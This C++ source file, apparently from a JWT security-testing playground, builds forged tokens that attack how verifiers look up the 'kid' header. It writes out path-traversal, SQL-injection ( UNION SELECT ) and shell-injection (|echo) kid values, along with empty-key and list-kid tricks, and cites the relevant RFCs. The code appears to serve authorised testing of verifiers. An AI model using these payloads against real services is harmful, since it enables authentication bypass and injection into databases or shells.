// SPDX-FileCopyrightText: 2026 The Tessera developers
// SPDX-License-Identifier: GPL-3.0-or-later
#include "jose/jws.h"
#include "playground/attackcontext.h"

#include <QJsonArray>

namespace tessera::playground {

// What a verifier may do with a kid: open a file of that name, ask a database for it, hand it to a shell.
QList<Attack> attacksOnKids(const AttackContext &context)
{
    QList<Attack> all;
    const QByteArray forged = compact(context.forgedClaims());
    const QString alg = QStringLiteral("alg"), name = QStringLiteral("kid");
    const QString rule = QStringLiteral("RFC 8725 section 3.10");
    const auto add = [&](const QString &id, const QString &tries, const QString &why, const QString &kid,
                         const QByteArray &secret) {
        all.append({.id = id,
            .tries = tries,
            .why = why,
            .rule = rule,
            .token = hmacToken(context.headerWith({{alg, QStringLiteral("HS256")}, {name, kid}}), forged, secret)});
    };
    const QString file = QStringLiteral("It opens a file that the kid names, and takes what is in it for the key.");
    add(QStringLiteral("kid-path"),
        QStringLiteral("A kid that leads out of the folder of keys to an empty file, whose "
                       "content is the secret."),
        file, QStringLiteral("../").repeated(12) + QStringLiteral("dev/null"), {});
    add(QStringLiteral("kid-absolute-path"), QStringLiteral("The same with an absolute path."), file,
        QStringLiteral("/dev/null"), {});
    add(QStringLiteral("kid-sql"), QStringLiteral("A kid that makes a database answer the attacker's secret."),
        QStringLiteral("It puts the kid into the text of a statement."),
        QStringLiteral("' UNION SELECT 'attacker' -- "), "attacker");
    add(QStringLiteral("kid-command"), QStringLiteral("A kid that a shell would run."),
        QStringLiteral("It hands the kid to a function that opens files or runs programs."),
        QStringLiteral("|echo attacker"), "attacker\n");
    add(QStringLiteral("kid-empty"), QStringLiteral("An empty kid, and an empty secret."),
        QStringLiteral("It finds no key for the kid and goes on with none."), QString(), {});
    const jose::SigningKey &key = context.material().attackerKey;
    all.append({.id = QStringLiteral("kid-list"),
        .tries = QStringLiteral("A forged token of another key whose kid is a list."),
        .why = QStringLiteral("It takes what is no text for a token that names no key."),
        .rule = QStringLiteral("RFC 7515 section 4.1.4"),
        .token = jose::signJwsAs(
            context.headerWith({{alg, QString(jose::name(key.algorithm()))}, {name, QJsonArray{key.kid().toText()}}}),
            forged, key)});
    return all;
}

} // namespace tessera::playground
